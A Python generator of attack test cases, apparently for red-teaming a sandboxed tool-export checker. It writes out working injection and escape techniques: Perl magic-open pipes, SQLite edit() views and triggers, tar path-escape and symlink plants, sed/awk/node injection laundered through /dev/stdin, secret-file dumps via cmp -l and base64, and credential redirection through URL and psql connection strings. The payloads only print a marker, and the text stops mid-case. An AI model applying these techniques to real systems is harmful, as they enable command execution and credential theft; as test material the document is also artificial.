#!/usr/bin/env python3
"""Writes blind34r16/attacks/NNN-name.yaml + .json (written for this round, from the docs only).

Attachments (sqlite databases, tar archives, files) are built here, at generation time, with
the sqlite3 CLI and Python's tarfile; the marker is never written literally: every payload
computes it at run time ($((6*7)) in a shell, 6*7 in awk, node or python)."""
import base64, io, json, os, subprocess, tarfile, tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
SH = "echo HARBOR-PWNED-$((6*7))"          # a shell command that prints the marker
ATT = []


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def sqlite_db(sql):
    """a database file made with the sqlite3 CLI, base64"""
    d = tempfile.mkdtemp()
    p = os.path.join(d, "x.db")
    subprocess.run(["sqlite3", p, sql], check=True)
    data = open(p, "rb").read()
    os.unlink(p)
    os.rmdir(d)
    return b64(data)


def tar_of(members):
    """members: (name, bytes) for a file, (name, None, target) for a symlink"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w") as t:
        for m in members:
            ti = tarfile.TarInfo(m[0])
            if m[1] is None:
                ti.type = tarfile.SYMTYPE
                ti.linkname = m[2]
                t.addfile(ti)
            else:
                ti.size = len(m[1])
                t.addfile(ti, io.BytesIO(m[1]))
    return b64(bio.getvalue())


PYPAY = b'print("HARBOR-PWNED-" + str(6 * 7))\n'
MAKEPAY = "lint:\n\t@" + SH.replace("$", "$$") + "\nreport:\n\t@" + SH.replace("$", "$$") + "\n"   # $$: make passes one $ to the shell
PERL_PATH = SH + " >&2 |"

# ===================================================================== perl-implicit-magic-open
PERL_ARG = r'''
args:
  file:
    type: string
    minLength: 1
    maxLength: 4096
    within: "."
    description: A text file of the project, relative to the working directory; it must stay inside it.
required: [file]
timeout: 30
sandbox: {network: none, readable: [.]}
annotations: {readOnlyHint: true}
'''
A("perl-ne-count", "perl-implicit-magic-open", r'''
name: count_todos
description: Count the lines of a project file that carry a TODO or FIXME marker.
''' + PERL_ARG + r'''
steps:
  - name: count
    run: |
      perl -ne '$n++ if /\b(?:TODO|FIXME)\b/; END { print $n + 0, "\n" }' -- "$ARG_file"
''', {"file": PERL_PATH}, "perl -n wraps the literal program in while (<>): <> opens each operand with 2-argument open, so an operand ending in '|' is a shell command. The program text has no <>, no open, no system; the path passes within: '.' (it resolves inside, as a name that does not exist yet).")

A("perl-pe-expand", "perl-implicit-magic-open", r'''
name: expand_tabs
description: Show a project file with its tabs expanded to four spaces.
''' + PERL_ARG + r'''
steps:
  - name: show
    run: |
      perl -pe 's/\t/    /g' -- "$ARG_file"
''', {"file": PERL_PATH}, "perl -p is -n plus print: the same implicit while (<>) loop, the same magic open of the operand.")

A("perl-lane-column", "perl-implicit-magic-open", r'''
name: first_column
description: Print the first whitespace-separated column of every non-empty line of a project file.
''' + PERL_ARG + r'''
steps:
  - name: column
    run: |
      perl -lane 'print $F[0] if @F' -- "$ARG_file"
''', {"file": PERL_PATH}, "-a -n (autosplit) also implies the <> loop; the literal program only prints $F[0].")

A("perl-paragraph-mode", "perl-implicit-magic-open", r'''
name: changelog_sections
description: Print the paragraphs of a Markdown file that start with a heading.
''' + PERL_ARG + r'''
steps:
  - name: sections
    run: |
      perl -00 -ne 'print if /^#/' -- "$ARG_file"
''', {"file": PERL_PATH}, "-00 (paragraph mode) with -n: the loop over <> opens the caller's operand with the magic 2-argument open.")

A("perl-in-custom-tool", "perl-implicit-magic-open", r'''
name: review_file
description: A model reads the first lines of project files and says whether they need review.
args:
  question: {type: string, maxLength: 500, default: "", description: What to look for.}
tools:
  head_file:
    description: The first 40 lines of a project file.
    args:
      path: {type: string, minLength: 1, maxLength: 4096, within: ".", description: A file inside the project.}
    required: [path]
    run: perl -ne 'print if $. <= 40' -- {{ args.path | shellquote }}
    timeout: 10
steps:
  - name: review
    agent:
      model: reviewer
      system: You review project files for leftover debugging code.
      prompt: "Look at the files the caller asks about: {{ args.question | data }}"
      tools: [head_file]
      max_turns: 4
''', {"question": "look at notes"}, "A custom tool: the model's path (validated like a caller's: within '.', no leading '-') reaches perl -n's implicit <> loop.",
  model_calls=[{"tool": "head_file", "args": {"path": PERL_PATH}}])

# ===================================================================== sqlite-database-carries-code
EDIT = "edit('x', 'echo HARBOR-PWNED-$((6*7)) >&2; true')"
DB_VIEW = sqlite_db("create table raw(id integer, total real, status text); insert into raw values (1, 9.5, 'open');"
                    " create view orders as select id, " + EDIT + " as total, status from raw;")
DB_TRIG = sqlite_db("create table orders(id integer, total real); create table import_log(at text);"
                    " create trigger stamp after insert on import_log begin select " + EDIT + "; end;")
DB_ARG = r'''
args:
  db:
    type: string
    contentEncoding: base64
    contentMediaType: application/vnd.sqlite3
    max_bytes: 10485760
    description: The SQLite database exported by the shop (base64).
required: [db]
timeout: 60
sandbox: {network: none}
'''
A("sqlite-view-select", "sqlite-database-carries-code", r'''
name: orders_preview
description: Show the first orders of an uploaded SQLite export of the shop.
''' + DB_ARG + r'''
steps:
  - name: preview
    run: |
      sqlite3 -readonly -header -column "$ARG_db" 'select * from orders limit 20'
''', {"db": DB_VIEW}, "The SQL is the author's literal; the caller only attaches the database file, which sqlite3 opens as a file. 'orders' in the caller's file is a view whose column calls the CLI's edit(), which runs an editor command through system().")

A("sqlite-view-json-sum", "sqlite-database-carries-code", r'''
name: orders_total
description: Sum the order totals of an uploaded SQLite export, as JSON.
''' + DB_ARG + r'''
steps:
  - name: total
    run: |
      sqlite3 -readonly -json "$ARG_db" 'select count(*) as n, sum(total) as total from orders' > "$HARBOR_RUN_DIR/total.json"
      cat -- "$HARBOR_RUN_DIR/total.json"
''', {"db": DB_VIEW}, "sum(total) evaluates the view's column, which is edit('x', COMMAND): the sqlite3 shell runs COMMAND.")

A("sqlite-trigger-insert", "sqlite-database-carries-code", r'''
name: import_orders
description: Take an uploaded SQLite export, stamp it with the import time and report its size.
''' + DB_ARG.replace("sandbox: {network: none}", "sandbox: {network: none}") + r'''
steps:
  - name: stamp
    run: |
      cp -- "$ARG_db" "$HARBOR_RUN_DIR/import.db"
      sqlite3 "$HARBOR_RUN_DIR/import.db" "insert into import_log(at) values (datetime('now'))"
      sqlite3 -readonly "$HARBOR_RUN_DIR/import.db" 'select count(*) from orders'
''', {"db": DB_TRIG}, "The copy in the run directory is the caller's file; the author's literal INSERT fires the caller's trigger, whose body calls edit().")

A("sqlite-in-custom-tool", "sqlite-database-carries-code", r'''
name: orders_question
description: Answer a question about an uploaded SQLite export of the shop; a model queries it through a fixed tool.
args:
  db:
    type: string
    contentEncoding: base64
    contentMediaType: application/vnd.sqlite3
    max_bytes: 10485760
    description: The SQLite database exported by the shop (base64).
  question: {type: string, maxLength: 500, default: "", description: The question.}
required: [db]
timeout: 60
sandbox: {network: none}
tools:
  orders_by_status:
    description: The orders of one status (id and total).
    args:
      status: {type: string, enum: [open, paid, shipped]}
    required: [status]
    run: sqlite3 -readonly -csv "$HARBOR_RUN_DIR/shop.db" "select id, total from orders where status = '{{ args.status }}'"
    timeout: 10
steps:
  - name: keep
    run: cp -- "$ARG_db" "$HARBOR_RUN_DIR/shop.db"
  - name: answer
    agent:
      model: analyst
      system: You answer questions about the shop's orders using the tool.
      prompt: "Question: {{ args.question | data }}"
      tools: [orders_by_status]
      max_turns: 4
''', {"db": DB_VIEW, "question": "how many open orders"}, "The tool's SQL is literal with an enum value; the database it reads is the caller's upload, copied into the run directory by the first step. The view's column runs edit().",
  model_calls=[{"tool": "orders_by_status", "args": {"status": "open"}}])

# ===================================================================== python-archive-extract-escape
ABS = tar_of([("manifest.json", b'{"files": 1}\n'), ("/proc/self/cwd/json.py", PYPAY)])
A("tarfile-abs-member-json", "python-archive-extract-escape", r'''
name: unpack_bundle
description: Unpack an uploaded bundle (tar) into the run directory and report its manifest.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/x-tar
    description: The bundle, a tar archive (base64).
required: [bundle]
timeout: 60
sandbox: {network: none}
steps:
  - name: unpack
    run: |
      python3 -c 'import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2])' "$ARG_bundle" "$HARBOR_RUN_DIR/bundle"
  - name: manifest
    run: |
      python3 -c 'import json, sys; print(json.load(open(sys.argv[1])))' "$HARBOR_RUN_DIR/bundle/manifest.json"
''', {"bundle": ABS}, "The literal python program extracts into a run-directory path given as argv; tarfile (3.11, no filter) keeps the absolute member name /proc/self/cwd/json.py, which is the step's working folder. The next step's python3 -c has '' (the working folder) first on sys.path and imports the caller's json.py.")

LINK = tar_of([("w", None, "/proc/self/cwd"), ("w/Makefile", MAKEPAY.encode())])
A("tarfile-symlink-makefile", "python-archive-extract-escape", r'''
name: unpack_and_lint
description: Unpack an uploaded tar of generated docs into the run directory, then run the project's lint target.
args:
  docs:
    type: string
    contentEncoding: base64
    contentMediaType: application/x-tar
    description: The generated docs, a tar archive (base64).
required: [docs]
timeout: 60
steps:
  - name: unpack
    run: |
      python3 -c 'import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2])' "$ARG_docs" "$HARBOR_RUN_DIR/docs"
      find "$HARBOR_RUN_DIR/docs" -type f | wc -l
  - name: lint
    run: make -s lint
''', {"docs": LINK}, "A symlink member w -> /proc/self/cwd, then w/Makefile: tarfile writes through the link into the working folder. make gets only the literal target 'lint', but reads the caller's Makefile.")

SHU = tar_of([("/proc/self/cwd/csv.py", PYPAY), ("report.csv", b"a,b\n")])
A("shutil-unpack-csv", "python-archive-extract-escape", r'''
name: csv_rows
description: Unpack an uploaded archive of CSV reports into the run directory and count the rows of report.csv.
args:
  archive:
    type: string
    contentEncoding: base64
    contentMediaType: application/x-tar
    description: The reports, a tar archive (base64).
required: [archive]
timeout: 60
sandbox: {network: none}
steps:
  - name: unpack
    run: |
      python3 -c 'import shutil, sys; shutil.unpack_archive(sys.argv[1], sys.argv[2], "tar")' "$ARG_archive" "$HARBOR_RUN_DIR/reports"
  - name: rows
    run: |
      python3 -c 'import csv, sys; print(sum(1 for _ in csv.reader(open(sys.argv[1]))))' "$HARBOR_RUN_DIR/reports/report.csv"
''', {"archive": SHU}, "shutil.unpack_archive hands the tar to tarfile's extractall: the absolute member lands in the working folder as csv.py, imported by the next literal python program.")

HOOK = tar_of([("index.html", b"<html></html>\n"), ("/proc/self/cwd/re.py", PYPAY)])
A("tarfile-finally-hook", "python-archive-extract-escape", r'''
name: publish_preview
description: Unpack an uploaded site preview into the run directory; always report the number of HTML pages.
args:
  site:
    type: string
    contentEncoding: base64
    contentMediaType: application/x-tar
    description: The site, a tar archive (base64).
required: [site]
timeout: 60
sandbox: {network: none}
steps:
  - name: unpack
    run: python3 -c 'import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2])' "$ARG_site" "$HARBOR_RUN_DIR/site"
finally:
  - name: pages
    run: |
      python3 -c 'import re, sys; print(len(re.findall(r"<html", open(sys.argv[1]).read())))' "$HARBOR_RUN_DIR/site/index.html"
''', {"site": HOOK}, "The same escape, read back by a finally: hook whose literal program imports re (the caller's re.py, from the working folder).")

# ===================================================================== stdin-as-named-file
A("jq-devstdin-sed-e", "stdin-as-named-file", r'''
name: release_notes
description: Print the CHANGELOG section of the version named in a release manifest (JSON).
args:
  manifest: {type: string, maxLength: 4000, description: 'The release manifest, JSON, e.g. {"version": "1.4.2"}'}
required: [manifest]
timeout: 30
sandbox: {network: none, readable: [.]}
steps:
  - name: notes
    run: |
      version=$(jq -r .version /dev/stdin <<< "$ARG_manifest")
      sed -n "/^## $version\$/,/^## /p" CHANGELOG.md
''', {"manifest": '{"version": "x/p;1e ' + SH + '"}'}, "jq reads a file operand (/dev/stdin), not its standard input, so its output looks like 'what a program prints of files no step can write' (clean); /dev/stdin is the here-string of the caller's value. The version lands in sed's program, where GNU sed's e command runs the rest of the line.")

A("jq-devfd0-awk-system", "stdin-as-named-file", r'''
name: customer_total
description: Look up one customer's total in data/report.csv, the customer named in an order (JSON).
args:
  order: {type: string, maxLength: 4000, description: 'The order, JSON, e.g. {"customer": "alice"}'}
required: [order]
timeout: 30
sandbox: {network: none, readable: [.]}
steps:
  - name: lookup
    run: |
      customer=$(jq -r .customer /dev/fd/0 <<< "$ARG_order")
      awk -F, "\$1 == \"$customer\" { print \$2 }" data/report.csv
''', {"order": '{"customer": "x\\" || 1 { system(\\"echo HARBOR-PWNED-\\" 6*7) } \\""}'}, "/dev/fd/0 as jq's file operand launders the caller's JSON into a value spliced into awk's program; the program text the checker reads (no system, no pipes) is not the one awk runs.")

A("head-procfd-python", "stdin-as-named-file", r'''
name: note_subject
description: Print the subject (first line) of a release note, shortened to 60 characters.
args:
  note: {type: string, multiline: true, maxLength: 4000, description: The release note; its first line is the subject.}
required: [note]
timeout: 30
sandbox: {network: none}
steps:
  - name: subject
    run: |
      subject=$(head -n 1 /proc/self/fd/0 <<< "$ARG_note")
      python3 -c "import textwrap; print(textwrap.shorten('$subject', 60))"
''', {"note": "x', 60)); print('HARBOR-PWNED-' + str(6 * 7)) #\nsecond line"}, "head reads the file /proc/self/fd/0, its own stdin (the caller's here-string); the line reaches a python -c program text.")

A("jq-devstdin-node", "stdin-as-named-file", r'''
name: package_card
description: Print a one-line JSON card of a package description (JSON with name and version).
args:
  package: {type: string, maxLength: 4000, description: 'package.json text, e.g. {"name": "demo"}'}
required: [package]
timeout: 30
sandbox: {network: none}
steps:
  - name: card
    run: |
      name=$(jq -r .name /dev/stdin <<< "$ARG_package")
      node -e "console.log(JSON.stringify({name: '$name', ok: true}))"
''', {"package": '{"name": "x\' + require(\'child_process\').execSync(\'echo HARBOR-PWNED-\' + 6*7) + \'"}'}, "The laundered name is spliced into node -e's program, whose literal text has no require: the one node runs has.")

A("jq-devstdin-custom-tool", "stdin-as-named-file", r'''
name: log_filter
description: A model filters the application log with a JSON filter spec it builds, then summarises.
args:
  topic: {type: string, maxLength: 200, default: "errors", description: What to look for.}
tools:
  filter_log:
    description: 'Lines of logs/app.log that match a spec: JSON {"match": "TEXT"}.'
    args:
      spec: {type: string, minLength: 2, maxLength: 500}
    required: [spec]
    run: |
      m=$(jq -r .match /dev/stdin <<< {{ args.spec | shellquote }})
      sed -n "/$m/p" logs/app.log
    timeout: 10
steps:
  - name: summarise
    agent:
      model: ops
      system: You summarise application logs with the filter tool.
      prompt: "Topic: {{ args.topic | data }}"
      tools: [filter_log]
      max_turns: 4
''', {"topic": "errors"}, "In a custom tool: the model's JSON reaches sed's program through jq's /dev/stdin file operand; sed's e command runs.",
  model_calls=[{"tool": "filter_log", "args": {"spec": '{"match": "x/p;1e ' + SH + '"}'}}])

# ===================================================================== secret-source-file-in-workdir
FSEC = "secrets:\n  API_TOKEN: {file: ../.secrets/api_token}\n"
PING = r'''
  - name: ping
    run: |
      curl -fsS -o /dev/null -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/v1/ping || echo "api not reachable"
'''
PATHARG = r'''
args:
  path:
    type: string
    minLength: 1
    maxLength: 4096
    default: "."
    within: "."
    description: A file or folder of the project, relative to the working directory; it must stay inside it.
timeout: 60
'''
A("secretfile-tar-base64", "secret-source-file-in-workdir", r'''
name: snapshot
description: Ping the team API, then return a gzipped tar of a project folder, base64, for the caller to download.
''' + PATHARG + FSEC + "steps:" + PING + r'''
  - name: archive
    run: |
      tar -czf - -- "$ARG_path" | base64 -w0
      echo
''', {"path": ".secrets"}, "The secret's file: source is relative to the export file's folder (exports/../.secrets/api_token): inside the working folder. The script never expands $API_TOKEN near the archive; tar reads the secret's own file, base64 hides it from the scrubber.")

A("secretfile-base64", "secret-source-file-in-workdir", r'''
name: fetch_file
description: Ping the team API, then return one project file base64-encoded.
''' + PATHARG + FSEC + "steps:" + PING + r'''
  - name: fetch
    run: base64 -w0 -- "$ARG_path"
''', {"path": ".secrets/api_token"}, "base64 of a caller-chosen file inside the working folder: the secret's source file is one.")

A("secretfile-od", "secret-source-file-in-workdir", r'''
name: hexdump_file
description: Ping the team API, then dump a project file as characters (od -c) to spot stray bytes.
''' + PATHARG + FSEC + "steps:" + PING + r'''
  - name: dump
    run: od -c -- "$ARG_path" | head -n 200
''', {"path": ".secrets/api_token"}, "od -c spells the secret's source file one character per cell.")

A("secretfile-xxd", "secret-source-file-in-workdir", r'''
name: hex_file
description: Ping the team API, then print a project file as plain hex.
''' + PATHARG + FSEC + "steps:" + PING + r'''
  - name: hex
    run: xxd -p -- "$ARG_path" | head -n 200
''', {"path": ".secrets/api_token"}, "xxd -p: the secret's source file in hex.")

A("secretfile-custom-tool", "secret-source-file-in-workdir", r'''
name: config_review
description: A model reviews project configuration files, reading them gzipped and base64-encoded through a tool; the API token is for the follow-up call.
args:
  focus: {type: string, maxLength: 200, default: "", description: What to review.}
''' + FSEC + r'''
tools:
  read_packed:
    description: A project file, gzipped and base64-encoded.
    args:
      path: {type: string, minLength: 1, maxLength: 4096, within: ".", description: A file inside the project.}
    required: [path]
    run: gzip -c -- {{ args.path | shellquote }} | base64 -w0
    timeout: 10
steps:
  - name: review
    agent:
      model: reviewer
      system: You review configuration files.
      prompt: "Focus: {{ args.focus | data }}"
      tools: [read_packed]
      max_turns: 4
''' + PING.replace("  - name: ping", "  - name: ping"), {"focus": "deploy"}, "A custom tool inherits the export's secrets and the working folder; gzip|base64 of the secret's own source file (the model names it) is returned to the model and in the tool's output.",
  model_calls=[{"tool": "read_packed", "args": {"path": ".secrets/api_token"}}])

# ===================================================================== secret-compared-by-cmp
CMPARG = r'''
args:
  candidate:
    type: string
    contentEncoding: base64
    contentMediaType: application/octet-stream
    max_bytes: 4096
    description: The token file from the vault export (base64), to compare with the deployed one.
required: [candidate]
timeout: 30
'''
A("cmp-l-token", "secret-compared-by-cmp", r'''
name: token_matches
description: Tell whether the vault's token file matches the token this server deploys with, and where they differ.
''' + CMPARG + SEC + r'''
steps:
  - name: compare
    run: |
      printf '%s' "$API_TOKEN" > "$HARBOR_RUN_DIR/deployed"
      if cmp -l -- "$HARBOR_RUN_DIR/deployed" "$ARG_candidate"; then
        echo "tokens match"
      else
        echo "tokens differ"
      fi
''', {"candidate": b64("x" * 16)}, "The secret goes only to a file of the run directory (accepted) and to cmp as an operand. cmp compares; -l lists every differing byte's value in octal, so the caller's file of 'x' bytes gets the whole token back, one octal byte per line.")

A("cmp-lb-hook", "secret-compared-by-cmp", r'''
name: rotate_check
description: Check the API with the token, and on failure say how the vault's token file differs from the deployed one.
''' + CMPARG + SEC + r'''
steps:
  - name: call
    run: |
      printf '%s' "$API_TOKEN" > "$HARBOR_RUN_DIR/deployed"
      curl -fsS --max-time 10 -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/v1/whoami | jq -e .user > /dev/null
on_failure:
  - name: explain
    if: steps.call.failed
    run: |
      cmp -lb -- "$HARBOR_RUN_DIR/deployed" "$ARG_candidate" | head -n 64 || true
''', {"candidate": b64("x" * 16)}, "The whoami answer names no user here, so the on_failure hook runs cmp -lb over the secret's file: byte numbers, octal values and the characters.")

A("cmp-l-secretfile", "secret-compared-by-cmp", r'''
name: vault_sync_check
description: Compare the vault's copy of the API token file with the one the server reads, byte by byte.
''' + CMPARG + FSEC + r'''
steps:
  - name: ping
    run: |
      curl -fsS -o /dev/null -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/v1/ping || true
  - name: compare
    run: |
      cmp -l -- "$ARG_candidate" .secrets/api_token | head -n 64 || echo "differ"
''', {"candidate": b64("x" * 16)}, "cmp -l of the secret's own file: source (in the working folder) against the caller's upload.")

# ===================================================================== url-authority-continuation
A("curl-host-port-continued", "url-authority-continuation", r'''
name: api_get
description: GET a path of the internal API with the team token and return the JSON.
args:
  path:
    type: string
    pattern: "^[A-Za-z0-9/_.:@-]{1,200}$"
    description: 'The API path, e.g. /v1/items or /v1/items:batchGet'
required: [path]
timeout: 30
''' + SEC + r'''
steps:
  - name: get
    run: |
      curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" "http://localhost$ARG_path"
''', {"path": ":8080/v1/items"}, "The host is written as the literal 'localhost', but the caller's value follows it with no '/': ':8080/…' makes it the port, so the bearer token goes to a port the caller picked.")

A("wget-host-port-continued", "url-authority-continuation", r'''
name: api_fetch
description: Fetch a path of the internal API with wget and the team token.
args:
  path:
    type: string
    pattern: "^[A-Za-z0-9/_.:@-]{1,200}$"
    description: 'The API path, e.g. /v1/status'
required: [path]
timeout: 30
''' + SEC + r'''
steps:
  - name: fetch
    run: |
      wget -q -O - --tries=1 --timeout=5 --header "Authorization: Bearer $API_TOKEN" "http://localhost$ARG_path" || true
''', {"path": ":18765/v1/status"}, "wget --header is a credential place; the caller's value continues the authority.")

A("git-url-userinfo-continued", "url-authority-continuation", r'''
name: mirror_refs
description: List the branches of a repository on the internal git mirror.
args:
  repo:
    type: string
    pattern: "^[A-Za-z0-9/_.:-]{1,200}$"
    description: The repository's path on the mirror, e.g. /team/app.git
required: [repo]
timeout: 30
''' + SEC + r'''
steps:
  - name: refs
    env: {GIT_TERMINAL_PROMPT: "0"}
    run: |
      git ls-remote --heads "http://ci:$API_TOKEN@localhost$ARG_repo" || echo "mirror refused"
''', {"repo": ":8080/team/app.git"}, "The token is the URL's userinfo and the host is literal, but the caller's ':8080/…' becomes the port: git sends Basic ci:token there after the 401.")

A("curl-user-at-host", "url-authority-continuation", r'''
name: api_status
description: Ask the internal API for the status of a resource, with the team's basic credentials.
args:
  resource:
    type: string
    pattern: "^[A-Za-z0-9/_.:@-]{1,200}$"
    description: 'The resource path, e.g. /v1/users/alice@example.com'
required: [resource]
timeout: 30
''' + SEC + r'''
steps:
  - name: status
    run: |
      curl -sS --max-time 10 -u "ci:$API_TOKEN" "http://api.internal$ARG_resource" || true
''', {"resource": "@127.0.0.1:8080/v1/status"}, "'@' is allowed for e-mail addresses in paths; glued to the host it turns the literal 'api.internal' into userinfo, and the caller's host:port receives the Basic credentials.")

A("curl-in-custom-tool", "url-authority-continuation", r'''
name: incident_helper
description: A model looks up incident details in the internal API through a fixed tool.
args:
  incident: {type: string, maxLength: 200, description: The incident to look into.}
required: [incident]
''' + SEC + r'''
tools:
  api_get:
    description: 'GET an internal API path (e.g. /v1/incidents/42).'
    args:
      path: {type: string, pattern: "^[A-Za-z0-9/_.:-]{1,200}$"}
    required: [path]
    run: |
      curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" "http://localhost$ARG_path"
    timeout: 15
steps:
  - name: investigate
    agent:
      model: ops
      system: You investigate incidents using the internal API.
      prompt: "Incident: {{ args.incident | data }}"
      tools: [api_get]
      max_turns: 4
''', {"incident": "INC-42"}, "The same continuation in a custom tool: the model's path, validated like a caller's, chooses the port.",
  model_calls=[{"tool": "api_get", "args": {"path": ":18765/v1/incidents/42"}}])

# ===================================================================== destination-built-in-variable
A("curl-port-variable", "destination-built-in-variable", r'''
name: metrics_probe
description: Read the metrics endpoint of a local service (by its port) with the team token.
args:
  port: {type: integer, minimum: 1024, maximum: 65535, description: The service's port on this host.}
required: [port]
timeout: 30
''' + SEC + r'''
steps:
  - name: probe
    run: |
      url="http://127.0.0.1:$ARG_port/metrics"
      curl -sS --max-time 5 -H "Authorization: Bearer $API_TOKEN" "$url" | head -n 50
''', {"port": 18765}, "rules.md H010 known problems: 'a host built in another variable first is not followed'. The port is the caller's, the URL is a variable.")

A("wget-base-variable", "destination-built-in-variable", r'''
name: health_of
description: Ask a local service (by its port) for its health, with the team token.
args:
  port: {type: integer, minimum: 1024, maximum: 65535}
required: [port]
timeout: 30
''' + SEC + r'''
steps:
  - name: health
    run: |
      base="http://127.0.0.1:$ARG_port"
      wget -q -O - --tries=1 --timeout=5 --header "Authorization: Bearer $API_TOKEN" "$base/health" || true
''', {"port": 8080}, "The base URL is built in a variable from the caller's port, then given to wget with the credential header.")

A("git-remote-variable", "destination-built-in-variable", r'''
name: mirror_head
description: Show the HEAD of the git mirror served on a local port.
args:
  port: {type: integer, minimum: 1024, maximum: 65535}
required: [port]
timeout: 30
''' + SEC + r'''
steps:
  - name: head
    env: {GIT_TERMINAL_PROMPT: "0"}
    run: |
      remote="http://ci:$API_TOKEN@127.0.0.1:$ARG_port/app.git"
      git ls-remote "$remote" HEAD || echo "no answer"
''', {"port": 18765}, "The token and the caller's port meet in a variable; git ls-remote sends Basic ci:token to that port.")

# ===================================================================== connection-string-operand
PGSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
A("psql-dbname-uri", "connection-string-operand", r'''
name: order_count
description: Count the orders in one of the reporting databases.
args:
  database: {type: string, minLength: 1, maxLength: 200, description: The reporting database's name, e.g. orders_eu.}
required: [database]
timeout: 30
''' + PGSEC + r'''
steps:
  - name: count
    env: {PGCONNECT_TIMEOUT: "5"}
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -h db.internal -U report -d "$ARG_database" -At -c 'select count(*) from orders'
''', {"database": "postgresql://127.0.0.1:15432/orders"}, "The host is the author's (-h db.internal), but psql expands a dbname that is a URI or holds '=' as a connection string, whose host and port override -h: PGPASSWORD goes to the caller's server.")

A("psql-positional-conninfo", "connection-string-operand", r'''
name: table_sizes
description: List the largest tables of a reporting database.
args:
  database: {type: string, minLength: 1, maxLength: 200, description: The reporting database's name.}
required: [database]
timeout: 30
''' + PGSEC + r'''
steps:
  - name: sizes
    env: {PGCONNECT_TIMEOUT: "5", PGHOST: db.internal, PGUSER: report}
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -At -c 'select relname from pg_class order by relpages desc limit 10' -- "$ARG_database"
''', {"database": "host=127.0.0.1 port=15432 dbname=orders"}, "psql's operand after -- is the dbname, expanded as key=value conninfo: host= and port= are the caller's.")

A("pg-dump-programs-entry", "connection-string-operand", r'''
name: schema_dump
description: Dump the schema of a reporting database into the run directory and report its size.
args:
  database: {type: string, minLength: 1, maxLength: 200, description: The reporting database's name.}
required: [database]
timeout: 60
programs:
  pg_dump:
    options_with_value: [-h, -U, -d, -f]
    flags: [--schema-only, --no-owner]
    runs_operands: false
    output_options: [-f]
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD, programs: [pg_dump]}
steps:
  - name: dump
    env: {PGCONNECT_TIMEOUT: "5"}
    run: |
      PGPASSWORD="$DB_PASSWORD" pg_dump --schema-only --no-owner -h db.internal -U report -d "$ARG_database" -f "$HARBOR_RUN_DIR/schema.sql" || true
      wc -c < "$HARBOR_RUN_DIR/schema.sql" 2>/dev/null || echo 0
''', {"database": "postgresql://127.0.0.1:15432/orders"}, "pg_dump is named in the secret's programs: (it never prints the password, true) and described with a grammar; -d's value is 'data', yet a URI there chooses the server.")

A("psql-dbname-attached", "connection-string-operand", r'''
name: active_users
description: Count the active users in a reporting database, for a given status.
args:
  database: {type: string, minLength: 1, maxLength: 200}
  status: {type: string, enum: [active, invited]}
required: [database, status]
timeout: 30
''' + PGSEC + r'''
steps:
  - name: count
    env: {PGCONNECT_TIMEOUT: "5"}
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -h db.internal -U report --dbname="$ARG_database" -At \
        -v status="$ARG_status" -c "select count(*) from users where status = :'status'"
''', {"database": "postgresql://report@127.0.0.1:15432/users?sslmode=disable", "status": "active"}, "--dbname= attached, the documented psql -v way for the data: the dbname URI still names the caller's server.")

A("psql-in-custom-tool", "connection-string-operand", r'''
name: data_question
description: A model answers a question about the reporting data by counting rows through a fixed tool.
args:
  question: {type: string, maxLength: 500}
required: [question]
''' + PGSEC + r'''
tools:
  count_rows:
    description: Count the rows of the orders table of a reporting database.
    args:
      database: {type: string, minLength: 1, maxLength: 200}
    required: [database]
    run: PGPASSWORD="$DB_PASSWORD" PGCONNECT_TIMEOUT=5 psql -h db.internal -U report -d "$ARG_database" -At -c 'select count(*) from orders'
    timeout: 15
steps:
  - name: answer
    agent:
      model: analyst
      system: You answer questions about the reporting databases.
      prompt: "Question: {{ args.question | data }}"
      tools: [count_rows]
      max_turns: 4
''', {"question": "orders in eu?"}, "The model's dbname (validated like a caller's) is a connection URI.",
  model_calls=[{"tool": "count_rows", "args": {"database": "postgresql://127.0.0.1:15432/orders"}}])

# ===================================================================== reader-output-operand-writes-workdir
UP = lambda mt, desc: r'''
  input:
    type: string
    contentEncoding: base64
    contentMediaType: ''' + mt + r'''
    max_bytes: 1048576
    description: ''' + desc + r'''
  output:
    type: string
    minLength: 1
    maxLength: 4096
    within: "."
    description: Where to save the result, a path inside the project.
required: [input, output]
timeout: 60
'''
A("uniq-output-operand-make", "reader-output-operand-writes-workdir", r'''
name: dedupe_list
description: Save an uploaded list into the project with repeated lines removed, then run the project's lint target.
args:''' + UP("text/plain", "The list (base64).") + r'''
steps:
  - name: dedupe
    run: uniq -- "$ARG_input" "$ARG_output"
  - name: lint
    run: make -s lint
''', {"input": b64(MAKEPAY), "output": "Makefile"}, "uniq is a coreutils reader, but its second operand is an output file: the caller's text lands in the working folder as its Makefile, and make (given only the literal 'lint') reads it.")

A("git-log-output-scripts-loop", "reader-output-operand-writes-workdir", r'''
name: save_log
description: Save the latest commit, in a format of the caller's, to a file of the project; then run the project's check scripts.
args:
  format: {type: string, minLength: 1, maxLength: 200, description: "A git log format, e.g. '%h %s'"}
  save_as: {type: string, minLength: 1, maxLength: 4096, within: ".", description: A path inside the project.}
required: [format, save_as]
timeout: 60
steps:
  - name: save
    env: {GIT_PAGER: cat}
    run: git log -n 1 --format="$ARG_format" --output="$ARG_save_as"
  - name: checks
    run: |
      for f in scripts/*.sh; do bash "$f"; done
